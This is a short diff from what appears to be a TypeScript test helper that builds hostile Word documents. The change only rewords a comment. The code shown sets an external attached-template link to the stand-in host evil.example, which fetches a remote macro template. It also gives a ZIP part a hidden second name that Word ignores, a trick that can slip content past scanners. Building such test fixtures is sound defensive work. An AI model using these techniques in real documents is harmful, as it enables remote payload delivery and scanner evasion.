@@ -132,8 +132,9 @@ async function linkedDocuments(): Promise<HostileDocx[]> {
     ],
   )
   const hidden = relationships(['attachedTemplate', 'https://evil.example/x.dotm', ' TargetMode="External"'])
-  // Gives the part `settings` a second name, as an Info-ZIP Unicode path (APPNOTE 4.6.9). Word reads the first name
-  // only. The field contains a version, the checksum of the first name, and the second name.
+  // The extra field gives `settings` a second name, as an Info-ZIP Unicode path (APPNOTE 4.6.9): a version, the
+  // checksum of the first name, and the second name. `zipOf` adds the field to every part, but the checksum fits only
+  // `settings`. Word reads the first name only.
   const secondName = new Map([[0x7075, joined(fromHex('012e4fc970'), bytesOf('word/notes.xml'))]])
   return [
     ...(await Promise.all(rows)),
